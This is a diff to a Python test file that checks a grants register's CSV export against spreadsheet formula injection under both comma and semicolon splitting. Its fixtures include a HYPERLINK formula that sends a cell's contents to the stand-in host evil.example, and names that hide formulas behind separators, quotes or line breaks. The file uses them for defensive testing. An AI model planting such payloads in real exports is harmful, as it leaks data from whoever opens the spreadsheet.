@@ -1,6 +1,7 @@
 """The register's CSV export is safe to open in a spreadsheet (OWASP CSV injection: a cell
-that would start a formula gets a leading quote), keeps amounts as plain numbers, and is
-UTF-8 whatever the names' letters."""
+that would start a formula gets a leading quote, and every text cell is in double quotes,
+so a separator inside a name never starts a cell, whether the spreadsheet splits on ',' or
+on ';'), keeps amounts as plain numbers, and is UTF-8 whatever the names' letters."""
 
 from __future__ import annotations
 
@@ -24,6 +25,7 @@ CSV = "/api/v1/transparency/grants.csv"
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Dettagli")'
 ITALIAN = "Società Cooperativa Sociale Àrea"
 COLUMN = {name: index for index, name in enumerate(CSV_HEADER)}
+FORMULA = ("=", "+", "-", "@", "\t", "\r")
 
 
 async def granted(
@@ -108,6 +110,80 @@ async def test_names_are_utf8_and_plain_text_is_left_alone(
     assert row[COLUMN["beneficiary_name"]] == ITALIAN
     assert row[COLUMN["project_title"]] == "Città più accogliente: 100% inclusione"
     assert row[COLUMN["amount"]] == "9000.00"
+
+
+def spreadsheet_cells(body: str, separator: str) -> list[str]:
+    """Every cell a spreadsheet splitting on ``separator`` shows, reading double quotes as
+    spreadsheets do: a quote opens or closes quoting (two in a row inside quotes are one
+    quote character), and a separator or a line break inside quotes does not end the cell.
+    With ',' this is RFC 4180: the test checks that it agrees with the csv module."""
+    cells: list[str] = []
+    cell: list[str] = []
+    quoted = False
+    i = 0
+    while i < len(body):
+        char = body[i]
+        if char == '"':
+            if quoted and body[i + 1 : i + 2] == '"':
+                cell.append('"')
+                i += 1
+            else:
+                quoted = not quoted
+        elif not quoted and (char == separator or char in "\r\n"):
+            cells.append("".join(cell))
+            cell = []
+            if char == "\r" and body[i + 1 : i + 2] == "\n":
+                i += 1
+        else:
+            cell.append(char)
+        i += 1
+    if cell:
+        cells.append("".join(cell))
+    return cells
+
+
+# Names that start a formula, or hide one behind a separator, a quote or a line break.
+HOSTILE = [
+    ";=1+1",
+    "Cooperativa Aurora;=1+1",
+    "Cooperativa Aurora,=1+1",
+    'Cooperativa "Aurora";=1+1',
+    "Cooperativa Aurora\n=1+1",
+    HYPERLINK,
+    "+1",
+    "-1",
+    "@x",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+async def test_no_cell_starts_a_formula_whether_split_on_comma_or_semicolon(
+    client: httpx.AsyncClient, session: AsyncSession, settings: Settings
+) -> None:
+    world = await budget(session, total=100_000)
+    for n, name in enumerate(HOSTILE, start=1):
+        await granted(
+            client, session, settings, world, n=n, beneficiary=name, title=name, amount=f"{n}.50"
+        )
+    body = (await client.get(CSV)).content.decode("utf-8")
+
+    rows = list(csv.reader(io.StringIO(body), delimiter=","))
+    assert rows[0] == list(CSV_HEADER)
+    assert sorted(row[COLUMN["beneficiary_name"]] for row in rows[1:]) == sorted(
+        spreadsheet_safe(name) for name in HOSTILE
+    )
+    assert [row[COLUMN["project_title"]] for row in rows[1:]] == [
+        row[COLUMN["beneficiary_name"]] for row in rows[1:]
+    ]
+    assert spreadsheet_cells(body, ",") == [cell for row in rows for cell in row]
+    for separator in (",", ";"):
+        cells = spreadsheet_cells(body, separator)
+        assert [cell for cell in cells if cell.startswith(FORMULA)] == [], separator
+    for n in range(1, len(HOSTILE) + 1):
+        assert f',{n}.50,"EUR",' in body  # the amount bare, a number; text quoted
+    # Split on ';' a line is one cell: no separator of the file is outside quotes.
+    assert len(spreadsheet_cells(body, ";")) == len(rows)
 
 
 @pytest.mark.parametrize(
